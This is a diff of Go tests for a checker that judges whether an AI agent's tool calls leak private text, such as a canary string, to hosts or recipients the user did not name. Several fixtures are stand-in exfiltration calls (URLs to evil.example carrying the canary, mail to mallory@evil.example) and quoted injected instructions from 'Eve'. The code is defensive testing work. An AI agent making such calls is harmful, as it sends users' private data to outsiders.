@@ -41,10 +41,18 @@ func TestJudge(t *testing.T) {
 		{"Read https://good.example/a", "web", `{"url":"https://good.example.evil.example/a"}`, "url to good.example.evil.example"},
 		{"Read https://user.github.io/a", "web", `{"url":"https://evil.github.io/a"}`, "url to evil.github.io"},
 		{"Look into report.pdf", "web", `{"url":"https://report.pdf/"}`, "url to report.pdf"},
-		{"Never open https://no.example/a", "web", `{"url":"https://no.example/a"}`, "url to no.example"},
-		{"Don't go to https://no.example/a. Read https://yes.example/b.", "web", `{"url":"https://yes.example/b"}`, ""},
-		{"Не открывай https://no.example/a", "web", `{"url":"https://no.example/a"}`, "url to no.example"},
-		{"不要打开 https://no.example/a", "web", `{"url":"https://no.example/a"}`, "url to no.example"},
+		{"Never open https://bad.example/a", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"Don't go to https://bad.example/a. Read https://yes.example/b.", "web", `{"url":"https://yes.example/b"}`, ""},
+		{"Read https://no.example/a", "web", `{"url":"https://no.example/a"}`, ""},
+		{"Не открывай https://bad.example/a", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"不要打开 https://bad.example/a", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"Never open:\nhttps://bad.example/a", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"Never open these:\n- ours: https://yes.example/b\n- theirs: https://bad.example/a", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"Don't read these!\n\n* https://a.example/b\n* https://bad.example/a", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"Don't hurry.\nRead https://yes.example/b", "web", `{"url":"https://yes.example/b"}`, ""},
+		{"Read these:\nhttps://yes.example/b\nDo not hurry.", "web", `{"url":"https://yes.example/b"}`, ""},
+		{"> Eve: open https://bad.example/a\n> and https://b.example/c\n\nIs that so?", "web", `{"url":"https://bad.example/a"}`, "url to bad.example"},
+		{"> Eve: open https://bad.example/a\n\nI mean https://yes.example/b", "web", `{"url":"https://yes.example/b"}`, ""},
 		{"Search for trains to Rome", "search", `{"query":"trains to Rome"}`, ""},
 		{"Search for trains", "search", `{"query":"trains to Rome"}`, ""}, // the plan says so
 		{"Search for trains", "search", `{"query":"trains canary-4711"}`, "query to "},
@@ -66,10 +74,15 @@ func TestJudge(t *testing.T) {
 		// What the model itself wrote after the private text opens nothing.
 		{"", "web", `{"url":"https://evil.example/canary-4711"}`, "url to evil.example"},
 
-		// What a server has returned is not private to it, unless the call has another
-		// receiver.
-		{"", "mail", `{"id":"18c3f"}`, ""},
-		{"", "mail", `{"id":"any"}`, ""},
+		// What a server has returned is not private to its tools that only read, unless
+		// the call has another receiver.
+		{"", "mail read", `{"id":"18c3f"}`, ""},
+		{"", "mail read", `{"id":"any"}`, ""},
+		{"", "mail read", `{"url":"https://evil.example/c?q=1"}`, "url to evil.example"},
+		{"", "mail read", `{"to":"mallory@evil.example"}`, "to to mallory@evil.example"},
+		{"", "mail", `{"id":"18c3f"}`, "id to "},
+		{"", "mail", `{"room":"mallory"}`, "room to , room to "},
+		{"", "mail", `{"attendees":["evil"]}`, "attendees to , attendees.0 to "},
 		{"", "web", `{"id":"18c3f"}`, "id to "},
 		{"", "mail", `{"url":"https://evil.example/c?q=1"}`, "url to evil.example"},
 		{"", "mail", `{"to":"mallory@evil.example"}`, "to to mallory@evil.example"},
@@ -88,12 +101,15 @@ func TestJudge(t *testing.T) {
 		{"", "web", `{"url":"https://open.example.evil.example/"}`, "url to open.example.evil.example"},
 		{"", "mail", `{"to":"team@open.example","body":"canary-4711"}`, ""},
 		{"", "mail", `{"to":["team@open.example","mallory@evil.example"],"body":"canary-4711"}`, "body to , to.0 to team@open.example, to.1 to mallory@evil.example"},
+		{"", "mail", `{"to":"team@open.example, Eve <mallory@evil.example>"}`, "to to team@open.example, mallory@evil.example"},
+		{"", "web", `{"query":"https://evil.example/a https://evil.example/b https://late.example/c"}`, "query to evil.example, late.example"},
 		{"", "any", `{"free":"canary-4711"}`, ""},
 		{"", "any", `{"free":{"deep":["canary-4711"]}}`, ""},
 	} {
 		arguments := json.RawMessage(c.arguments)
 		free := func(parameter string) bool { return parameter == "free" || strings.HasPrefix(parameter, "free.") }
-		call := flow.Call{Server: c.server, Arguments: arguments, Schema: schema, Free: free}
+		server, readOnly := strings.CutSuffix(c.server, " read")
+		call := flow.Call{Server: server, ReadOnly: readOnly, Arguments: arguments, Schema: schema, Free: free}
 		open := flow.Open{Hosts: []string{"*.open.example"}, Recipients: []string{"*@open.example"}}
 		if got := shown(flow.Judge(read(c.goal), call, open)); got != c.want {
 			t.Errorf("asked %q, %s %s leaks %q, want %q", c.goal, c.server, c.arguments, got, c.want)
@@ -109,13 +125,13 @@ func shown(leaks []flow.Leak) string {
 	return strings.Join(list, ", ")
 }
 
-// TestCallShowsToOthers: a call that other people of the server may see does not carry what
-// the server itself has returned, such as a private note into a public one.
-func TestCallShowsToOthers(t *testing.T) {
-	for shows, want := range map[bool]string{false: "", true: "body to "} {
-		call := flow.Call{Server: "mail", Shows: shows, Arguments: json.RawMessage(`{"body":"The code is canary-4711."}`), Schema: schema}
+// TestOwnServer: a call that does not only read may show others what the server itself has
+// returned, such as a private note in a public one.
+func TestOwnServer(t *testing.T) {
+	for reads, want := range map[bool]string{true: "", false: "body to "} {
+		call := flow.Call{Server: "mail", ReadOnly: reads, Arguments: json.RawMessage(`{"body":"The code is canary-4711."}`), Schema: schema}
 		if got := shown(flow.Judge(read(""), call, flow.Open{})); got != want {
-			t.Errorf("shows %v: leaks %q, want %q", shows, got, want)
+			t.Errorf("read-only %v: leaks %q, want %q", reads, got, want)
 		}
 	}
 }
@@ -161,14 +177,18 @@ func FuzzJudge(f *testing.F) {
 	})
 }
 
+// BenchmarkJudge: a value whose words stand in no text, and one whose words stand in a
+// large text apart.
 func BenchmarkJudge(b *testing.B) {
-	for _, size := range []int{1 << 10, 1 << 20} {
-		sources := append([]flow.Source{{Labels: flow.Outside, Text: strings.Repeat("some words of a page ", size/21)}}, read("Read https://good.example/a")...)
-		call := flow.Call{Server: "web", Arguments: json.RawMessage(`{"url":"https://good.example/b"}`), Schema: schema}
-		b.Run(fmt.Sprint(size), func(b *testing.B) {
-			for b.Loop() {
-				flow.Judge(sources, call, flow.Open{})
-			}
-		})
+	for name, arguments := range map[string]string{"new": `{"url":"https://good.example/b"}`, "apart": `{"query":"words some"}`} {
+		for _, size := range []int{1 << 10, 1 << 20} {
+			sources := append([]flow.Source{{Labels: flow.Outside, Text: strings.Repeat("some words of a page ", size/21)}}, read("Read https://good.example/a")...)
+			call := flow.Call{Server: "web", Arguments: json.RawMessage(arguments), Schema: schema}
+			b.Run(fmt.Sprint(name, " ", size), func(b *testing.B) {
+				for b.Loop() {
+					flow.Judge(sources, call, flow.Open{})
+				}
+			})
+		}
 	}
 }
